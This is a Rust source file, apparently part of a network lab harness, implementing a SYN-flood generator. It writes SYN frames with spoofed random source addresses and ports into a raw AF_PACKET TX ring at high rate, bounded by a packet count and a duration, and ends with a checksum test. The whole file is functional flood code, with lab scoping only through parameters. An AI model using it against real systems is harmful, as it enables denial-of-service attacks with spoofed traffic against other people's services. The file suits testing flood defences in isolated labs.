//! The SYN-flood generator: SYNs from random spoofed addresses and ports of the lab's client
//! subnet, written into an AF_PACKET TX ring (TPACKET_V2) on the client-side veth. Bounded by
//! a count and a duration, optionally paced to a rate; reports what it achieved.

use std::{
    net::Ipv4Addr,
    time::{Duration, Instant},
};

use anyhow::{Context as _, bail};

/// What to send.
#[derive(Clone, Debug)]
pub struct FloodSpec {
    pub iface: String,
    pub src_mac: [u8; 6],
    pub dst_mac: [u8; 6],
    pub dst: Ipv4Addr,
    pub dst_port: u16,
    /// Sources are drawn from `subnet.first..=subnet.last` (last octet).
    pub subnet: [u8; 3],
    pub first_host: u8,
    pub last_host: u8,
    /// Packets per second; None: as fast as the ring drains.
    pub rate: Option<u64>,
    pub max_packets: u64,
    pub duration: Duration,
    pub seed: u64,
}

#[derive(Clone, Copy, Debug, Default)]
pub struct FloodReport {
    pub sent: u64,
    pub elapsed: Duration,
    /// CPU time the generator's thread used.
    pub cpu: Duration,
}

impl FloodReport {
    pub fn rate(&self) -> f64 {
        self.sent as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
}

const FRAME_SIZE: u32 = 256;
const BLOCK_SIZE: u32 = 4096;
const BLOCKS: u32 = 256;
const FRAMES: u32 = BLOCK_SIZE / FRAME_SIZE * BLOCKS;
/// `TPACKET_ALIGN(sizeof(struct tpacket2_hdr))`: where a TX frame's data starts.
const DATA_OFFSET: usize = 32;
const TP_STATUS_AVAILABLE: u32 = 0;
const TP_STATUS_SEND_REQUEST: u32 = 1;
const TP_STATUS_WRONG_FORMAT: u32 = 4;
const PACKET_TX_RING: libc::c_int = 13;
const PACKET_VERSION: libc::c_int = 10;
const PACKET_QDISC_BYPASS: libc::c_int = 20;
const TPACKET_V2: libc::c_int = 1;
const SYN_LEN: usize = 14 + 20 + 24;

#[repr(C)]
struct TpacketReq {
    block_size: u32,
    block_nr: u32,
    frame_size: u32,
    frame_nr: u32,
}

struct Ring {
    fd: libc::c_int,
    map: *mut u8,
    len: usize,
}

impl Drop for Ring {
    fn drop(&mut self) {
        // SAFETY: unmapping and closing what `open` made.
        unsafe {
            libc::munmap(self.map.cast(), self.len);
            libc::close(self.fd);
        }
    }
}

fn check(rc: libc::c_int, what: &str) -> anyhow::Result<()> {
    if rc < 0 {
        return Err(std::io::Error::last_os_error()).context(what.to_string());
    }
    Ok(())
}

fn setsockopt<T>(fd: libc::c_int, opt: libc::c_int, v: &T, what: &str) -> anyhow::Result<()> {
    // SAFETY: `v` is a live value of the size passed.
    let rc = unsafe {
        libc::setsockopt(
            fd,
            libc::SOL_PACKET,
            opt,
            (v as *const T).cast(),
            std::mem::size_of::<T>() as libc::socklen_t,
        )
    };
    check(rc, what)
}

impl Ring {
    /// In the calling thread's network namespace.
    fn open(iface: &str) -> anyhow::Result<Self> {
        let name = std::ffi::CString::new(iface)?;
        // SAFETY: plain syscalls; every result is checked.
        unsafe {
            let ifindex = libc::if_nametoindex(name.as_ptr());
            if ifindex == 0 {
                bail!("no interface {iface}");
            }
            let fd = libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0);
            check(fd, "AF_PACKET socket")?;
            let mut ring = Ring {
                fd,
                map: std::ptr::null_mut(),
                len: 0,
            };
            setsockopt(fd, PACKET_VERSION, &TPACKET_V2, "PACKET_VERSION")?;
            setsockopt(fd, PACKET_QDISC_BYPASS, &1i32, "PACKET_QDISC_BYPASS")?;
            let req = TpacketReq {
                block_size: BLOCK_SIZE,
                block_nr: BLOCKS,
                frame_size: FRAME_SIZE,
                frame_nr: FRAMES,
            };
            setsockopt(fd, PACKET_TX_RING, &req, "PACKET_TX_RING")?;
            let mut sll: libc::sockaddr_ll = std::mem::zeroed();
            sll.sll_family = libc::AF_PACKET as u16;
            sll.sll_protocol = (libc::ETH_P_IP as u16).to_be();
            sll.sll_ifindex = ifindex as i32;
            check(
                libc::bind(
                    fd,
                    (&sll as *const libc::sockaddr_ll).cast(),
                    std::mem::size_of::<libc::sockaddr_ll>() as libc::socklen_t,
                ),
                "binding the packet socket",
            )?;
            let len = (BLOCK_SIZE * BLOCKS) as usize;
            let map = libc::mmap(
                std::ptr::null_mut(),
                len,
                libc::PROT_READ | libc::PROT_WRITE,
                libc::MAP_SHARED,
                fd,
                0,
            );
            if map == libc::MAP_FAILED {
                return Err(std::io::Error::last_os_error()).context("mmap of the TX ring");
            }
            ring.map = map.cast();
            ring.len = len;
            Ok(ring)
        }
    }

    fn status(&self, i: u32) -> *mut u32 {
        // SAFETY: frame i lies inside the mapping; tp_status is its first field.
        unsafe { self.map.add((i * FRAME_SIZE) as usize).cast() }
    }

    /// Asks the kernel to send what is marked, and waits until it did.
    fn flush(&self) -> anyhow::Result<()> {
        // SAFETY: send with no buffer on a TX-ring socket.
        let rc = unsafe { libc::send(self.fd, std::ptr::null(), 0, 0) };
        if rc < 0 {
            let e = std::io::Error::last_os_error();
            // ENOBUFS: the device queue is full; the frames stay marked for the next call.
            if e.raw_os_error() != Some(libc::ENOBUFS) {
                return Err(e).context("sending the TX ring");
            }
        }
        Ok(())
    }
}

struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

fn csum_add(mut sum: u32, data: &[u8]) -> u32 {
    for c in data.chunks(2) {
        sum += u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)]));
    }
    sum
}

fn csum_fold(mut sum: u32) -> u16 {
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// One SYN with an MSS option, checksums complete.
pub fn syn_frame(spec: &FloodSpec, src: Ipv4Addr, sport: u16, seq: u32, id: u16) -> [u8; SYN_LEN] {
    let mut f = [0u8; SYN_LEN];
    f[0..6].copy_from_slice(&spec.dst_mac);
    f[6..12].copy_from_slice(&spec.src_mac);
    f[12..14].copy_from_slice(&0x0800u16.to_be_bytes());
    let ip = &mut f[14..34];
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&(20u16 + 24).to_be_bytes());
    ip[4..6].copy_from_slice(&id.to_be_bytes());
    ip[6] = 0x40; // DF
    ip[8] = 64;
    ip[9] = 6;
    ip[12..16].copy_from_slice(&src.octets());
    ip[16..20].copy_from_slice(&spec.dst.octets());
    let c = csum_fold(csum_add(0, ip));
    ip[10..12].copy_from_slice(&c.to_be_bytes());
    let tcp = &mut f[34..58];
    tcp[0..2].copy_from_slice(&sport.to_be_bytes());
    tcp[2..4].copy_from_slice(&spec.dst_port.to_be_bytes());
    tcp[4..8].copy_from_slice(&seq.to_be_bytes());
    tcp[12] = 6 << 4;
    tcp[13] = 0x02; // SYN
    tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
    tcp[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]); // MSS 1460
    let mut pseudo = [0u8; 12];
    pseudo[0..4].copy_from_slice(&src.octets());
    pseudo[4..8].copy_from_slice(&spec.dst.octets());
    pseudo[9] = 6;
    pseudo[10..12].copy_from_slice(&24u16.to_be_bytes());
    let c = csum_fold(csum_add(csum_add(0, &pseudo), tcp));
    tcp[16..18].copy_from_slice(&c.to_be_bytes());
    f
}

fn thread_cpu() -> Duration {
    let mut ts = libc::timespec {
        tv_sec: 0,
        tv_nsec: 0,
    };
    // SAFETY: writes into our timespec.
    unsafe { libc::clock_gettime(libc::CLOCK_THREAD_CPUTIME_ID, &mut ts) };
    Duration::new(ts.tv_sec as u64, ts.tv_nsec as u32)
}

/// Sends the flood from the calling thread (which must be in the client's namespace).
pub fn flood(spec: &FloodSpec) -> anyhow::Result<FloodReport> {
    let ring = Ring::open(&spec.iface)?;
    let mut rng = Rng(spec.seed | 1);
    let hosts = u64::from(spec.last_host - spec.first_host) + 1;
    let cpu0 = thread_cpu();
    let t0 = Instant::now();
    let mut sent = 0u64;
    let mut slot = 0u32;
    const BATCH: u64 = 64;
    while sent < spec.max_packets && t0.elapsed() < spec.duration {
        let mut queued = 0;
        while queued < BATCH && sent + queued < spec.max_packets {
            let status = ring.status(slot);
            // SAFETY: the kernel and we share the status word; volatile keeps the reads real.
            let s = unsafe { std::ptr::read_volatile(status) };
            if s == TP_STATUS_WRONG_FORMAT {
                bail!("the kernel rejected a SYN frame (TP_STATUS_WRONG_FORMAT)");
            }
            if s != TP_STATUS_AVAILABLE {
                break; // the kernel still owns it: flush and come back
            }
            let r = rng.next();
            let host = spec.first_host + (r % hosts) as u8;
            let src = Ipv4Addr::new(spec.subnet[0], spec.subnet[1], spec.subnet[2], host);
            let sport = 1024 + ((r >> 16) % 64000) as u16;
            let frame = syn_frame(spec, src, sport, (r >> 32) as u32, (r >> 48) as u16);
            // SAFETY: the frame fits in FRAME_SIZE after the header; we own the slot now.
            unsafe {
                let base = ring.map.add((slot * FRAME_SIZE) as usize);
                std::ptr::copy_nonoverlapping(frame.as_ptr(), base.add(DATA_OFFSET), frame.len());
                *(base.add(4) as *mut u32) = frame.len() as u32; // tp_len
                std::ptr::write_volatile(status, TP_STATUS_SEND_REQUEST);
            }
            slot = (slot + 1) % FRAMES;
            queued += 1;
        }
        ring.flush()?;
        sent += queued;
        if let Some(rate) = spec.rate {
            let due = Duration::from_secs_f64(sent as f64 / rate as f64);
            if let Some(wait) = due.checked_sub(t0.elapsed()) {
                std::thread::sleep(wait);
            }
        }
    }
    // Let the last frames leave before the ring goes away.
    for _ in 0..100 {
        ring.flush()?;
        // SAFETY: as above.
        let pending = (0..FRAMES)
            .any(|i| unsafe { std::ptr::read_volatile(ring.status(i)) } != TP_STATUS_AVAILABLE);
        if !pending {
            break;
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    Ok(FloodReport {
        sent,
        elapsed: t0.elapsed(),
        cpu: thread_cpu() - cpu0,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn syn_checksums_verify() {
        let spec = FloodSpec {
            iface: "x".into(),
            src_mac: [2; 6],
            dst_mac: [4; 6],
            dst: Ipv4Addr::new(10, 200, 0, 2),
            dst_port: 8080,
            subnet: [10, 200, 0],
            first_host: 3,
            last_host: 254,
            rate: None,
            max_packets: 1,
            duration: Duration::from_secs(1),
            seed: 1,
        };
        let f = syn_frame(&spec, Ipv4Addr::new(10, 200, 0, 77), 4000, 123, 9);
        assert_eq!(csum_fold(csum_add(0, &f[14..34])), 0);
        let mut pseudo = [0u8; 12];
        pseudo[0..4].copy_from_slice(&f[26..30]);
        pseudo[4..8].copy_from_slice(&f[30..34]);
        pseudo[9] = 6;
        pseudo[10..12].copy_from_slice(&24u16.to_be_bytes());
        assert_eq!(csum_fold(csum_add(csum_add(0, &pseudo), &f[34..])), 0);
    }
}
